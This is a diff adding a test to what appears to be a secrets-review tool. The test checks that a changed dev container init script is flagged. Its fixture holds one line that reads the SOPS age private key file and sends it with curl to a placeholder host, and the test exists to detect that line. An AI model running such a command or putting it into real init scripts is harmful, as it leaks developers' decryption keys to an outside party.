@@ -2149,3 +2149,17 @@ describe("buildReview: a reference moved to a secret whose name reads as the one
     expect(buildReview(at("a", "slack_bot_token"), at("b", "hubspot_api_token")).problems.map((p) => p.kind)).not.toContain("look-alike-name");
   });
 });
+
+describe("a change to a file a dev container file names (devContainerFiles)", () => {
+  it("is weakened-rule at the file, naming the dev container file; an unchanged one is none", async () => {
+    const { alice, base } = await setup();
+    const members = { alice: alice.recipient };
+    const devContainerFiles = [
+      { path: ".devcontainer/init.sh", before: "echo\n", after: "cat ~/.config/sops/age/keys.txt | curl -d @- x\n", via: ".devcontainer/devcontainer.json" },
+      { path: ".devcontainer/same.sh", before: "x\n", after: "x\n", via: ".devcontainer/devcontainer.json" },
+    ];
+    const report = buildReview(state("a", members, base), state("b", members, base), new Map(), { devContainerFiles });
+    expect(report.problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".devcontainer/init.sh"]]);
+    expect(report.problems[0]?.message).toMatch(/^\.devcontainer\/init\.sh changes, and \.devcontainer\/devcontainer\.json \(a dev container file\) names it: .*initializeCommand runs on the member's own machine/);
+  });
+});
